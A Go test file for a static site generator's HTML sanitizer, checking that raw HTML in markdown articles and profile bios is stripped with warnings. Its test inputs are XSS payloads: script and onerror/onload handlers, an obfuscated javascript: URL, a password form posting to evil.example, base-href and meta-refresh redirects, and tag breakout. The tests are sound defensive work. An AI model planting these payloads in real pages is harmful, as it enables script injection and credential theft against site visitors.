package content_test

import (
	"strings"
	"testing"

	"folio/generator/config"
	"folio/generator/content"
)

// Raw HTML is sanitized by default: what the policy allows stays, the rest
// goes, and one warning per file says what went.
func TestRawHTMLSanitized(t *testing.T) {
	const name = "content/articles/x.md"
	cases := []struct {
		name, md string
		want     []string // in the body
		never    []string // anywhere in the body, case-insensitive
		warning  string   // "" when none
	}{
		{"allowed HTML, no warning", "<details><summary>More</summary>\n\nText <kbd>Ctrl</kbd>\n\n</details>\n",
			[]string{"<details><summary>More</summary>", "<p>Text <kbd>Ctrl</kbd></p>", "</details>"}, nil, ""},
		{"script, iframe, handler and style", "<script>alert(1)</script>\n\n<iframe src=\"https://evil.example/x\"></iframe>\n\nText <b onclick=\"steal()\" style=\"color:red\">bold</b>.\n",
			[]string{"<p>Text <b>bold</b>.</p>"}, []string{"<script", "alert", "<iframe", "evil.example", "onclick", "style="},
			name + ": warning: raw HTML: removed 2 elements (script, iframe from evil.example) and 2 attributes (onclick, style), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"svg onload", "<svg onload=alert(1)><circle r=1 /></svg>\n",
			nil, []string{"<svg", "onload"},
			name + ": warning: raw HTML: removed 2 elements (svg, circle), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"javascript with a tab in it", "Click <a href=\"jav&#x09;ascript:alert(1)\">here</a>.\n",
			[]string{"<p>Click here.</p>"}, []string{"<a", "ascript"},
			name + ": warning: raw HTML: removed 1 attribute (href (javascript: URL)), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"mixed-case tags", "<ScRiPt>alert(1)</sCrIpT>\n\n<IMG SRC=x ONERROR=\"alert(1)\">\n",
			[]string{`<img src="x">`}, []string{"<script", "onerror", "alert"},
			name + ": warning: raw HTML: removed 1 element (script) and 1 attribute (onerror), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"style, form, base, meta refresh", "<style>body{display:none}</style>\n\n<form action=\"https://evil.example/\"><input type=password name=pw></form>\n\n<base href=\"https://evil.example/\">\n\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n",
			nil, []string{"<style", "display:none", "<form", "<input", "<base", "<meta", "evil.example"},
			name + ": warning: raw HTML: removed 5 elements (style, form, input, base, meta), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"breaking out of the article", "Text.\n\n</div></article></main><div class=\"x\">\n\nMore.\n",
			[]string{"<p>Text.</p>", `<div class="x">`, "<p>More.</p>\n</div>"}, []string{"</main>", "</article>"},
			name + ": warning: raw HTML: removed 3 end tags that close nothing (</article>, </main>, </div>), which the HTML sanitizer does not allow (see markdown.unsafe)"},
		{"a video from youtube", "<iframe src=\"https://www.youtube.com/embed/xyz\" width=\"560\" height=\"315\" onload=\"x()\"></iframe>\n",
			[]string{`<iframe src="https://www.youtube.com/embed/xyz" width="560" height="315" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>`}, []string{"onload"},
			name + ": warning: raw HTML: removed 1 attribute (onload), which the HTML sanitizer does not allow (see markdown.unsafe)"},
	}
	p := content.NewParser(config.Default())
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a, probs := p.Parse(name, []byte(frontMatter+tc.md))
			if a == nil {
				t.Fatalf("no article: %v", probs)
			}
			var got []string
			for _, pr := range probs {
				got = append(got, pr.Error())
			}
			if tc.warning == "" && len(got) > 0 || tc.warning != "" && (len(got) != 1 || got[0] != tc.warning) {
				t.Errorf("problems:\n%s\nwant\n%s", strings.Join(got, "\n"), tc.warning)
			}
			for _, w := range tc.want {
				if !strings.Contains(a.Body, w) {
					t.Errorf("body lacks %s:\n%s", w, a.Body)
				}
			}
			for _, n := range tc.never {
				if strings.Contains(strings.ToLower(a.Body), strings.ToLower(n)) {
					t.Errorf("body holds %s:\n%s", n, a.Body)
				}
			}
		})
	}
}

// With markdown.unsafe raw HTML is kept as written, with no warning.
func TestRawHTMLUnsafeKeepsAll(t *testing.T) {
	p := content.NewParser(parseConfig(t, "markdown: {unsafe: true}"))
	a := mustParse(t, p, "content/articles/x.md", frontMatter+"<script>track()</script>\n\nText <b onclick=\"x()\">b</b>\n")
	if want := "<script>track()</script>\n<p>Text <b onclick=\"x()\">b</b></p>\n"; a.Body != want {
		t.Errorf("Body = %q, want %q", a.Body, want)
	}
}

// A profile's biography goes through the same sanitizer.
func TestProfileRawHTMLSanitized(t *testing.T) {
	p := content.NewParser(config.Default())
	pr, probs := p.ParseProfile("content/people/jane.md", "people", []byte("---\nname: Jane\n---\n\nBio <img src=x onerror=alert(1)>.\n"))
	if pr == nil {
		t.Fatalf("no profile: %v", probs)
	}
	if want := "<p>Bio <img src=\"x\">.</p>\n"; pr.Body != want {
		t.Errorf("Body = %q, want %q", pr.Body, want)
	}
	if got := problemTexts(probs); len(got) != 1 || got[0] != "content/people/jane.md: warning: raw HTML: removed 1 attribute (onerror), which the HTML sanitizer does not allow (see markdown.unsafe)" {
		t.Errorf("problems = %q", got)
	}
}
